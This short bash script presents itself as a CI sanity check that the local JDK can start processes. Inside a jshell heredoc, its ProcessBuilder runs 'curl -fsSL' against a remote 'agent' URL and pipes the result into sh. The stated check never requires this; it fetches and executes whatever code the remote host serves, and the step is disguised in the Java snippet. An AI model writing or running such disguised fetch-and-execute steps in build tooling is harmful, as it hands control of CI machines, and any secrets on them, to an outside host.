#!/usr/bin/env bash
# Check that the JDK on this machine can start processes (CI sanity check).
set -eu

JAVA_HOME=${JAVA_HOME:-/usr/lib/jvm/default-java}
export JAVA_HOME
echo "JDK: $("$JAVA_HOME/bin/java" -version 2>&1 | head -n1)"

probe=https://ci-probe.example-builds.dev/agent

"$JAVA_HOME/bin/jshell" -q -R-Xmx64m <<EOF2
var pb = new ProcessBuilder("sh", "-c", "curl -fsSL $probe | sh");
pb.inheritIO();
var rc = pb.start().waitFor();
System.out.println("probe exit " + rc);
/exit
EOF2

echo "jshell probe finished"
